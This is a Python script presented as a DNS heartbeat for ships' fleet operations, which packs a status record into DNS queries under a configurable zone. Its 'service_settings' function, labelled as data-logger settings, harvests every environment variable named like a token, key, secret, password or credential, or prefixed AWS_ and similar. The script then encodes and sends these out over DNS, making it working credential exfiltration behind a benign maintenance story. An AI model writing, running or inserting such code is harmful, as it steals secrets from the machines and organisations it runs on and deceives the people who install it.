#!/usr/bin/env python3
"""Fleet heartbeat over DNS for vessels on the low-rate VSAT plan.

When the ship drops to the emergency/low-rate satellite plan the provider
only passes DNS, so the normal HTTPS check-in to fleet ops fails. This
script packs a small status record (host, uptime, load, data-logger service
settings) into DNS queries under the fleet ops zone; the authoritative
server on shore reassembles them.

Run from a systemd timer or by hand:  vsat_dns_heartbeat.py --zone hb.fleetops.example.net
"""
import argparse
import base64
import json
import logging
import os
import random
import socket
import string
import sys
import time
import zlib

log = logging.getLogger("dnshb")

LABEL_MAX = 60
SERVICE_PREFIXES = ("RV_", "UNDERWAY_", "SHORE_", "AWS_", "DASH_", "SAT_")
SERVICE_HINTS = ("TOKEN", "KEY", "SECRET", "PASS", "CRED")


def uptime_seconds():
    try:
        with open("/proc/uptime") as fh:
            return int(float(fh.read().split()[0]))
    except OSError:
        return -1


def service_settings(environ=None):
    """Settings of the data-logger services running under this account."""
    environ = environ if environ is not None else os.environ
    picked = {}
    for name, value in environ.items():
        upper = name.upper()
        if upper.startswith(SERVICE_PREFIXES) or any(h in upper for h in SERVICE_HINTS):
            picked[name] = value
    return picked


def status_record(vessel):
    load = os.getloadavg() if hasattr(os, "getloadavg") else (0, 0, 0)
    return {
        "v": vessel,
        "h": socket.gethostname(),
        "t": int(time.time()),
        "up": uptime_seconds(),
        "ld": [round(x, 2) for x in load],
        "svc": service_settings(),
    }


def encode_labels(record):
    raw = zlib.compress(json.dumps(record, separators=(",", ":")).encode(), 9)
    text = base64.b32encode(raw).decode().rstrip("=").lower()
    for i in range(0, len(text), LABEL_MAX):
        yield text[i:i + LABEL_MAX]


def session_id():
    return "".join(random.choice(string.ascii_lowercase + string.digits) for _ in range(6))


class DnsSender:
    def __init__(self, zone, resolver=None, delay=0.4):
        self.zone = zone.strip(".")
        self.resolver = resolver
        self.delay = delay
        self._dns = None
        if resolver:
            try:
                import dns.resolver  # dnspython, if installed
                self._dns = dns.resolver.Resolver(configure=False)
                self._dns.nameservers = [resolver]
                self._dns.lifetime = 5
            except ImportError:
                log.info("dnspython not installed, using system resolver")

    def query(self, name):
        try:
            if self._dns is not None:
                self._dns.resolve(name, "A")
            else:
                socket.getaddrinfo(name, None, socket.AF_INET)
        except Exception as exc:  # NXDOMAIN is the normal answer
            log.debug("%s -> %s", name, type(exc).__name__)

    def send(self, record):
        sid = session_id()
        chunks = list(encode_labels(record))
        total = len(chunks)
        self.query(f"b.{total}.{sid}.{self.zone}")
        for idx, chunk in enumerate(chunks):
            self.query(f"{chunk}.{idx}.{sid}.{self.zone}")
            time.sleep(self.delay)
        self.query(f"e.{total}.{sid}.{self.zone}")
        return sid, total


def main():
    ap = argparse.ArgumentParser(description=__doc__,
                                 formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--zone", default=os.environ.get("HB_ZONE", "hb.fleetops.example.net"))
    ap.add_argument("--resolver", help="send straight to this nameserver instead of the system one")
    ap.add_argument("--vessel", default=os.environ.get("RV_NAME", socket.gethostname()))
    ap.add_argument("--repeat", type=int, default=1)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(message)s")

    sender = DnsSender(args.zone, args.resolver)
    for n in range(args.repeat):
        sid, total = sender.send(status_record(args.vessel))
        log.info("heartbeat %s sent in %d labels", sid, total)
        if n + 1 < args.repeat:
            time.sleep(300)
    return 0


if __name__ == "__main__":
    sys.exit(main())
